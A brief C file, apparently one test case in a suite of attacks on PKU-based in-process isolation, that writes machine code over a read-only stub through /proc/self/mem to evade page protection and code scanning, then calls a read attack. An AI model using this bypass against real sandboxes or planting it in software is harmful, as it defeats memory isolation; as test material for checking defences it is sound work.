/* A8: the program's own text, read-only and scanned, rewritten through
 * /proc/self/mem, which does not ask for page protection.
 *
 * Source: [PKU Pitfalls], proc(5).
 */
#include <fcntl.h>
#include <unistd.h>
#include "attack.h"
#include "machinecode.h"

/* Room for an opener; a function that does nothing until then. */
extern const unsigned char room[];
__asm__(".pushsection .text\nroom:\n  ret\n  .fill 31, 1, 0xcc\n.popsection\n");

static void proc_self_mem(void) {
    unsigned char opener[OPENER_BYTES_MOST];
    size_t bytes = machinecode_opener(opener);
    int fd = (int)TRY("open", open("/proc/self/mem", O_RDWR));
    TRY("pwrite", pwrite(fd, opener, bytes, (off_t)(uintptr_t)room));
    TRY("opener", machinecode_open(room));
    attack_read();
}

const struct attack attacks[] = {
    {.variant = "proc-self-mem", .attack = proc_self_mem},
    {0},
};
